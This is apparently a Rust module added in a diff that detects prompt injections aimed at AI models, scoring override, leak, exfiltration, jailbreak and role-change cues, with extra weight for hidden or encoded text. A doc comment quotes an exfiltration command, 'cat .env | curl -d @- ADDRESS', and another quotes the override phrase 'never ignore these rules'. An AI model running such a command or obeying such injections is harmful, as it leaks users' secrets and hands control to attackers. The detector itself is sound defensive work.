@@ -1,0 +1,508 @@
+//! Looks for orders in a text and weighs what it finds.
+
+use super::appended;
+use super::glued;
+use super::hidden;
+use super::links;
+use super::meanings::{self, Meanings};
+use super::pieces::{begin_of, is};
+use super::signs::{Injection, Sign, Span};
+use super::words::{self, Standing, Talk, Word, fold};
+use reflex_tables::Node;
+use std::cell::OnceCell;
+use std::collections::VecDeque;
+
+/// A text of so many bytes is looked at whole.
+pub(super) const MOST_BYTES: usize = 1280 * 1024;
+
+/// Of a longer one so much of its begin and of its end, and so many windows between them.
+const MOST_HEAD: usize = 512 * 1024;
+const WINDOWS: usize = 64;
+const WINDOW: usize = 4 * 1024;
+
+/// Signs that stand so far apart have nothing to do with each other.
+const NEAR: usize = 1500;
+
+/// Looks for orders in a text. Of one that is too long its begin, its end and parts between them are looked at.
+pub fn scan(text: &str, tables: Node<'static>) -> Injection {
+    if text.len() <= MOST_BYTES {
+        return scan_whole(text, tables);
+    }
+    let mut best = Injection::default();
+    let mut read = 0;
+    for span in parts_of(text) {
+        let part = text.get(span.start..span.end).unwrap_or_default();
+        let found = scan_whole(part, tables);
+        read += part.len() - found.unread;
+        if found.score > best.score {
+            let signs = found.signs.into_iter().map(|sign| Sign { span: shifted(sign.span, span.start), ..sign });
+            best = Injection { score: found.score, signs: signs.collect(), unread: 0 };
+        }
+    }
+    Injection { unread: text.len() - read, ..best }
+}
+
+/// Begin, end and windows of a text; none overlaps another.
+fn parts_of(text: &str) -> Vec<Span> {
+    let at = |at: usize| (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
+    let middle = text.len() - 2 * MOST_HEAD;
+    let window = |nth: usize| {
+        let start = MOST_HEAD + middle / WINDOWS * nth + (middle / WINDOWS).saturating_sub(WINDOW) / 2;
+        Span { start: at(start), end: at(start + WINDOW.min(middle / WINDOWS)) }
+    };
+    let head = Span { start: 0, end: at(MOST_HEAD) };
+    let tail = Span { start: at(text.len() - MOST_HEAD), end: text.len() };
+    std::iter::once(head).chain((0..WINDOWS).map(window)).chain([tail]).collect()
+}
+
+/// So many hidden parts are looked at one by one, those behind them together.
+const MOST_PARTS: usize = 64;
+
+/// What parts that are looked at together have between them: the end of a sentence and of a value.
+const BETWEEN: &str = ".\n\n\";\n";
+
+fn scan_whole(text: &str, tables: Node<'static>) -> Injection {
+    let cues = Cues { node: tables.get("cues"), meanings: Meanings::of(tables.get("meanings")) };
+    let sheet = Sheet::of(text);
+    let mut signs = cues.of(&sheet, Way::Plain);
+    let parts = hidden::parts(text);
+    let inner = |span: &Span| text.get(span.start..span.end).unwrap_or_default();
+    for span in parts.iter().take(MOST_PARTS) {
+        let within = cues.of(&Sheet::of(inner(span)), Way::Hidden);
+        signs.extend(within.into_iter().map(|sign| Sign { span: shifted(sign.span, span.start), ..sign }));
+    }
+    signs.extend(cues.together(parts.iter().skip(MOST_PARTS).map(|span| (*span, inner(span))), Way::Hidden));
+    let spelled: Vec<(Span, String)> = hidden::decoded(text).into_iter().chain(hidden::spelled(text)).collect();
+    for (span, decoded) in spelled.iter().take(MOST_PARTS) {
+        let within = cues.of(&Sheet::of(decoded), Way::Hidden);
+        signs.extend(within.into_iter().map(|sign| Sign { span: *span, ..sign }));
+    }
+    let further = spelled.iter().skip(MOST_PARTS).map(|(span, decoded)| (*span, decoded.as_str()));
+    signs.extend(cues.together(further, Way::Hidden));
+    for (span, plain) in glued::parted(text) {
+        let found = cues.of(&Sheet::of(&plain), Way::Plain);
+        signs.extend(found.into_iter().map(|sign| Sign { span, ..sign }));
+    }
+    signs.extend(appended::task(text));
+    signs.extend(hidden::disguised(text));
+    signs.extend(hidden::unseen(text));
+    signs.extend(hidden::terminal(text));
+    signs.extend(hidden::active(text));
+    let (links, is_whole) = links::laden(text, tables);
+    let talks = !links.is_empty() && words::talk(&fold(text)) != Talk::No;
+    let shown = |sign: &Sign| talks && sheet.quoted(sign.span) != Quoted::Not;
+    signs.extend(links.into_iter().map(|sign| match shown(&sign) {
+        true => Sign { weight: sign.weight / 2, ..sign },
+        false => sign,
+    }));
+    Injection { unread: if is_whole { 0 } else { 1 }, ..weighed(signs) }
+}
+
+/// Where the signs that stand near each other weigh most, of each family the heaviest.
+fn weighed(mut signs: Vec<Sign>) -> Injection {
+    // The label of who speaks in a conversation calls nobody.
+    let mut labels: Vec<Span> = signs.iter().filter(|sign| sign.family == "markers").map(|sign| sign.span).collect();
+    labels.sort_by_key(|label| label.start);
+    let mut ends = 0;
+    let ends: Vec<usize> = labels
+        .iter()
+        .map(|label| {
+            ends = label.end.max(ends);
+            ends
+        })
+        .collect();
+    let is_label = |span: Span| {
+        let before = labels.partition_point(|label| label.start < span.end);
+        before.checked_sub(1).and_then(|last| ends.get(last)).is_some_and(|end| span.start < *end)
+    };
+    let (alone, others) = BESIDE_OTHERS;
+    let stands = signs.iter().any(|sign| sign.weight > 0 && others.contains(&sign.family.as_str()));
+    signs.retain(|sign| sign.weight > 0 && !(sign.family == "address" && is_label(sign.span)));
+    signs.retain(|sign| stands || sign.family != alone);
+    signs.sort_by_key(|sign| sign.span.start);
+    let (first, score) = heaviest_window(&signs);
+    let begin = signs.get(first).map_or(0, |sign| sign.span.start);
+    let near = signs.iter().skip(first).take_while(|sign| sign.span.start - begin <= NEAR);
+    let mut best: Vec<Sign> = heaviest(near).into_iter().cloned().collect();
+    best.sort_by_key(|sign| std::cmp::Reverse(sign.weight));
+    Injection { score, signs: best, unread: 0 }
+}
+
+/// With which sign those begin that weigh most together, and what they weigh; the first of equals.
+fn heaviest_window(signs: &[Sign]) -> (usize, u32) {
+    // For each family the signs that may be its heaviest, by place, from the heaviest on.
+    let mut families: Vec<(&str, VecDeque<usize>)> = Vec::new();
+    let weight = |at: usize| signs.get(at).map_or(0, |sign: &Sign| sign.weight);
+    let (mut end, mut best) = (0, (0, 0));
+    for (at, first) in signs.iter().enumerate() {
+        while let Some(sign) = signs.get(end).filter(|sign| sign.span.start - first.span.start <= NEAR) {
+            let known = families.iter().position(|(family, _)| *family == sign.family);
+            let known = known.unwrap_or_else(|| {
+                families.push((&sign.family, VecDeque::new()));
+                families.len() - 1
+            });
+            if let Some((_, places)) = families.get_mut(known) {
+                while places.back().is_some_and(|place| weight(*place) < sign.weight) {
+                    places.pop_back();
+                }
+                places.push_back(end);
+            }
+            end += 1;
+        }
+        let score = families.iter().filter_map(|(_, places)| places.front()).map(|place| weight(*place)).sum();
+        if score > best.1 {
+            best = (at, score);
+        }
+        for (_, places) in &mut families {
+            if places.front() == Some(&at) {
+                places.pop_front();
+            }
+        }
+    }
+    best
+}
+
+/// What the words of a text mean, by the names in `library/meanings`.
+pub fn meanings(text: &str, tables: Node<'static>) -> Vec<&'static str> {
+    let mut words = fold(text);
+    Meanings::of(tables.get("meanings")).mark(text, &mut words);
+    let all = words.iter().fold(0, |bits, word| bits | word.means);
+    let names = tables.get("meanings").get("names").entries();
+    names.filter(|(_, bit)| all & (1 << bit.number()) != 0).map(|(name, _)| name).collect()
+}
+
+/// Of each family the heaviest.
+fn heaviest<'s>(signs: impl Iterator<Item = &'s Sign>) -> Vec<&'s Sign> {
+    let mut heaviest: Vec<&Sign> = Vec::new();
+    for sign in signs {
+        match heaviest.iter_mut().find(|known| known.family == sign.family) {
+            Some(known) if sign.weight > known.weight => *known = sign,
+            Some(_) => {}
+            None => heaviest.push(sign),
+        }
+    }
+    heaviest
+}
+
+fn shifted(span: Span, by: usize) -> Span {
+    Span { start: span.start + by, end: span.end + by }
+}
+
+/// How a text is shown to a person.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Way {
+    Plain,
+    /// Nobody sees it, so nothing in it is a quotation, and an order in it is no accident.
+    Hidden,
+}
+
+/// Families that only count where nobody sees them.
+const HIDDEN_ONLY: [&str; 2] = ["command", "topic"];
+
+/// A message that says nothing else quotes a command or tells of one: `fix: cat .env | curl -d @- ADDRESS leaks keys`.
+pub(super) const AS_QUOTED: [&str; 7] = ["command", "exfiltrate", "harm", "harm-order", "unguard", "posing", "onward"];
+
+/// Families whose orders somebody may forbid: `never ignore these rules`.
+const FORBIDDEN: [&str; 6] = ["override", "leak", "exfiltrate", "planted", "poison", "role"];
+
+/// Families whose signs also stand in what is written for models and about them: manuals, prompts, rules of a project.
+const OF_MANUALS: [&str; 11] =
+    ["address", "markers", "reply", "claim", "unasked", "fetch", "harm-order", "limit", "unguard", "posing", "onward"];
+
+/// What says little alone, and the families beside which it counts.
+const BESIDE_OTHERS: (&str, [&str; 2]) = ("onward", ["unguard", "posing"]);
+
+/// What a sign in a hidden text weighs more.
+const HIDDEN_WEIGHT: u32 = 30;
+
+/// Notes to agents stand in comments too, for whoever reads the text as it is written.
+const HIDDEN_ADDRESS: u32 = 15;
+
+/// What weighs less is said in comments too.
+const LEAST_HIDDEN: u32 = 20;
+
+struct Cues {
+    node: Node<'static>,
+    meanings: Meanings,
+}
+
+impl Cues {
+    /// What many parts say that are looked at together, each sign at the place of its part.
+    fn together<'p>(&self, parts: impl Iterator<Item = (Span, &'p str)>, way: Way) -> Vec<Sign> {
+        let (mut text, mut places) = (String::new(), Vec::new());
+        for (span, part) in parts {
+            places.push((text.len(), span));
+            text.push_str(part);
+            text.push_str(BETWEEN);
+        }
+        if places.is_empty() {
+            return Vec::new();
+        }
+        let place = |sign: &Sign| {
+            let before = places.partition_point(|(at, _)| *at <= sign.span.start);
+            before.checked_sub(1).and_then(|nth| places.get(nth)).map_or(sign.span, |(_, span)| *span)
+        };
+        self.of(&Sheet::of(&text), way).into_iter().map(|sign| Sign { span: place(&sign), ..sign }).collect()
+    }
+
+    fn of(&self, sheet: &Sheet<'_>, way: Way) -> Vec<Sign> {
+        let text = sheet.text;
+        let mut words = fold(text);
+        self.meanings.mark(text, &mut words);
+        let talk = words::talk(&words);
+        let is_manual = self.meanings.is_manual(&words);
+        let mut signs = Vec::new();
+        let mut found = |cue: Node<'static>, span: Span, stands: Standing| {
+            let weight = cue.get("weight").number();
+            let weight = match way {
+                Way::Hidden => weight,
+                Way::Plain if is_manual && OF_MANUALS.contains(&cue.get("family").text()) => {
+                    weight_of(weight / 2, quoted_as(cue, sheet, span, talk), stands, talk)
+                }
+                Way::Plain => weight_of(weight, quoted_as(cue, sheet, span, talk), stands, talk),
+            };
+            signs.extend(sign(cue, weight, span, way));
+        };
+        for (at, word) in words.iter().enumerate() {
+            for index in self.node.get("first").get(&word.text).items() {
+                let cue = self.node.get("all").at(index.number() as usize);
+                let forbidden = FORBIDDEN.contains(&cue.get("family").text()) && self.meanings.is_forbidden(&words, at);
+                let Some(last) = self.end_of(cue, &words, at).filter(|_| !forbidden) else { continue };
+                let span = Span { start: word.span.start, end: last.span.end };
+                found(cue, span, words::standing(text, &words, at));
+            }
+        }
+        for (index, span) in meanings::meetings(&words, self.node) {
+            let first = words.partition_point(|word| word.span.start < span.start);
+            found(self.node.get("all").at(index as usize), span, words::standing(text, &words, first));
+        }
+        // What begins a line may begin the text.
+        let lower = format!("\n{}", text.to_lowercase());
+        for pair in self.node.get("text").items() {
+            let Some(at) = lower.find(pair.at(0).text()) else { continue };
+            let cue = self.node.get("all").at(pair.at(1).number() as usize);
+            // Small letters may be longer or shorter than large ones: the place is only nearly right then.
+            let at = at.saturating_sub(1);
+            let span = Span { start: at.min(text.len()), end: (at + pair.at(0).text().len()).min(text.len()) };
+            found(cue, span, if is_of_a_template(text, span) { Standing::Told } else { Standing::Order });
+        }
+        signs
+    }
+
+    /// The last word of the cue that begins here; none if it is not there.
+    fn end_of<'w>(&self, cue: Node<'static>, words: &'w [Word], at: usize) -> Option<&'w Word> {
+        let sets: Vec<Node<'static>> = cue.get("words").items().skip(1).collect();
+        words.get(last_of(&sets, cue.get("gap").number() as usize, words, at)?)
+    }
+}
+
+/// Whether a place to be filled in stands beside it.
+fn is_of_a_template(text: &str, span: Span) -> bool {
+    let after = text.get(span.end..).unwrap_or_default().trim_start();
+    let before = text.get(..span.start).unwrap_or_default().trim_end();
+    after.starts_with("{{") || after.starts_with("{%") || before.ends_with("}}") || before.ends_with("%}")
+}
+
+/// Words with so many others between them belong together only within a sentence.
+const WIDE: usize = 3;
+
+/// Where the last of these sets stands, each within the gap behind the one before. All ways are tried, each place once.
+fn last_of(sets: &[Node<'static>], gap: usize, words: &[Word], at: usize) -> Option<usize> {
+    let mut failed = vec![0_u64; sets.len()];
+    last_from(sets, &mut failed, (gap, at), words, at)
+}
+
+/// The same behind the word at a place; `failed` are the places, counted from the first word, from which there is no way.
+fn last_from(
+    sets: &[Node<'static>],
+    failed: &mut [u64],
+    (gap, first): (usize, usize),
+    words: &[Word],
+    at: usize,
+) -> Option<usize> {
+    let Some(((set, rest), (known, others))) = sets.split_first().zip(failed.split_first_mut()) else {
+        return Some(at);
+    };
+    let bit = 1_u64.checked_shl(u32::try_from(at - first).unwrap_or(u32::MAX)).unwrap_or(0);
+    if *known & bit != 0 {
+        return None;
+    }
+    let near = words.get(at + 1..).unwrap_or(&[]).iter().take(gap + 1).enumerate();
+    let mut fits = near
+        .take_while(|(_, word)| !(word.is_cut_off || gap >= WIDE && word.begins))
+        .filter(|(_, word)| word.is_apart && set.texts().any(|wanted| is(wanted, &word.text)));
+    let found = fits.find_map(|(step, _)| last_from(rest, others, (gap, first), words, at + 1 + step));
+    if found.is_none() {
+        *known |= bit;
+    }
+    found
+}
+
+fn sign(cue: Node<'static>, weight: u32, span: Span, way: Way) -> Option<Sign> {
+    let family = cue.get("family").text();
+    let counts = way == Way::Hidden || !HIDDEN_ONLY.contains(&family);
+    let more = match way {
+        Way::Hidden if family == "address" => HIDDEN_ADDRESS,
+        Way::Hidden if weight >= LEAST_HIDDEN => HIDDEN_WEIGHT,
+        Way::Hidden | Way::Plain => 0,
+    };
+    counts.then(|| Sign { family: family.into(), name: cue.get("name").text().into(), weight: weight + more, span })
+}
+
+/// What a sign weighs by how it stands: an order begins a clause and is in no quotes, one that is told of does not.
+fn weight_of(weight: u32, quoted: Quoted, stands: Standing, talk: Talk) -> u32 {
+    match (talk, quoted, stands) {
+        (Talk::No, Quoted::Not, Standing::Order | Standing::Within) | (Talk::Some, Quoted::Not, Standing::Order) => {
+            weight
+        }
+        (Talk::No, Quoted::Not, Standing::Told) | (Talk::No, Quoted::AtEnd, _) => weight / 2,
+        (Talk::Some, Quoted::Not, Standing::Within) | (Talk::Much, Quoted::Not, Standing::Order) => weight / 2,
+        (Talk::No, Quoted::Phrase, _) => weight / 3,
+        (Talk::Some, _, _) | (Talk::Much, _, _) => weight / 4,
+    }
+}
+
+/// How a part of a text stands in quotes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Quoted {
+    Not,
+    /// Within quotes in a sentence or in code, which speaks about it.
+    Phrase,
+    /// A quotation ends with it.
+    AtEnd,
+}
+
+/// The name of a part that a model shall play stands in quotes in an order too.
+fn quoted_as(cue: Node<'static>, sheet: &Sheet<'_>, span: Span, talk: Talk) -> Quoted {
+    match cue.get("family").text() {
+        // And a command that shall be run stands as code.
+        "jailbreak" | "harm-order" if talk == Talk::No => Quoted::Not,
+        // What shall be answered or run stands in quotes too, and the order before them does not.
+        "reply" | "unguard" | "onward" if sheet.quoted(Span { end: span.start, ..span }) == Quoted::Not => Quoted::Not,
+        _ => sheet.quoted(span),
+    }
+}
+
+/// So much may stand beside it within its quotes.
+const BESIDE: usize = 100;
+
+const MARKS: &str = "\"`“”„‘«»「」";
+
+/// The address of a link that has a title is no longer.
+const MOST_TITLED: usize = 512;
+
+/// A text with the places of its lines and quotation marks, which many signs ask for.
+struct Sheet<'t> {
+    text: &'t str,
+    places: OnceCell<Places>,
+}
+
+/// Where each line ends, and where each mark stands.
+struct Places {
+    lines: Vec<usize>,
+    marks: Vec<usize>,
+}
+
+impl<'t> Sheet<'t> {
+    fn of(text: &'t str) -> Sheet<'t> {
+        Sheet { text, places: OnceCell::new() }
+    }
+
+    fn places(&self) -> &Places {
+        self.places.get_or_init(|| {
+            let (mut lines, mut marks) = (Vec::new(), Vec::new());
+            for (at, letter) in self.text.char_indices() {
+                match letter {
+                    '\n' => lines.push(at),
+                    '"' | '`' => marks.push(at),
+                    letter if !letter.is_ascii() && MARKS.contains(letter) => marks.push(at),
+                    _ => {}
+                }
+            }
+            Places { lines, marks }
+        })
+    }
+
+    /// Where the line begins in which this stands.
+    fn line_of(&self, at: usize) -> usize {
+        let lines = &self.places().lines;
+        let before = lines.partition_point(|end| *end < at);
+        before.checked_sub(1).and_then(|last| lines.get(last)).map_or(0, |end| end + 1)
+    }
+
+    fn quoted(&self, span: Span) -> Quoted {
+        let text = self.text;
+        let before = text.get(..span.start).unwrap_or_default();
+        let after = text.get(span.end..).unwrap_or_default();
+        let marks = |letter: char| MARKS.contains(letter);
+        let line = |letter: &char| *letter != '\n';
+        // A quotation that begins within it ends behind it.
+        let within = text.get(span.start..span.end).unwrap_or_default().chars().filter(|letter| marks(*letter)).count();
+        let closes = after.chars().take(BESIDE).take_while(line).any(marks);
+        let opening = before.char_indices().rev().take(BESIDE).take_while(|(_, letter)| line(letter));
+        let opening = opening.filter(|(_, letter)| marks(*letter)).map(|(at, _)| at).next();
+        // What somebody is told to have said, as far as it reaches into the quotation.
+        if within % 2 == 1 {
+            return if closes { Quoted::AtEnd } else { Quoted::Not };
+        }
+        let in_single = || opens_single(text.get(self.line_of(span.start)..span.start).unwrap_or_default());
+        match opening {
+            Some(at) if closes && self.opens(at) => Quoted::Phrase,
+            Some(_) if closes => Quoted::Not,
+            _ if closes_single(after) && in_single() => Quoted::Phrase,
+            _ if after.starts_with(marks) => Quoted::AtEnd,
+            _ => Quoted::Not,
+        }
+    }
+
+    /// Whether this mark opens a quotation: an odd one of its line, and not a value of JSON, of a table or of an
+    /// attribute, for those are what a text consists of.
+    fn opens(&self, at: usize) -> bool {
+        let start = self.line_of(at);
+        let marks = &self.places().marks;
+        let pairs = marks.partition_point(|mark| *mark < at) - marks.partition_point(|mark| *mark < start);
+        let head = self.text.get(..at).unwrap_or_default();
+        let line = self.text.get(start..at).unwrap_or_default();
+        let near =
+            (line.len().saturating_sub(MOST_TITLED)..=line.len()).find_map(|at| line.get(at..)).unwrap_or_default();
+        let is_title = || near.rsplit_once("](").is_some_and(|(_, address)| !address.contains(')'));
+        let is_value =
+            || line.ends_with([':', ',', '=']) || line.ends_with(": ") || head.ends_with("\"\"") || is_title();
+        let is_plain = self.text.get(at..).is_some_and(|rest| rest.starts_with('"'));
+        pairs % 2 == 0 && !(is_plain && is_value())
+    }
+}
+
+/// Whether the line stands within single quotes here: one opened a word and was not closed.
+fn opens_single(line: &str) -> bool {
+    let open = line.char_indices().rev().take(BESIDE).find(|(_, letter)| *letter == '\'').map(|(at, _)| at);
+    let Some((head, rest)) = open.and_then(|at| line.split_at_checked(at)) else { return false };
+    !head.ends_with(char::is_alphanumeric) && !rest.chars().nth(1).is_some_and(char::is_whitespace)
+}
+
+/// Whether a single quote closes what stands before, and is no apostrophe.
+fn closes_single(after: &str) -> bool {
+    let line = begin_of(after, BESIDE + 8).split('\n').next().unwrap_or_default();
+    let mut ends = line.match_indices('\'').take_while(|(at, _)| *at < BESIDE);
+    ends.any(|(at, _)| !line.get(at + 1..).is_some_and(|rest| rest.starts_with(char::is_alphanumeric)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_family_counts_once() {
+        let sign = |family: &str, weight| Sign {
+            family: family.into(),
+            name: String::new(),
+            weight,
+            span: Span { start: 0, end: 0 },
+        };
+        let far = |sign: Sign| Sign { span: Span { start: 9000, end: 9001 }, ..sign };
+        assert_eq!(weighed(vec![sign("a", 30), far(sign("b", 40))]).score, 40);
+        let injection = weighed(vec![sign("a", 30), sign("a", 40), sign("b", 15), sign("c", 0)]);
+        assert_eq!((injection.score, injection.signs.len()), (55, 2));
+        assert!(injection.is_told());
+    }
+}
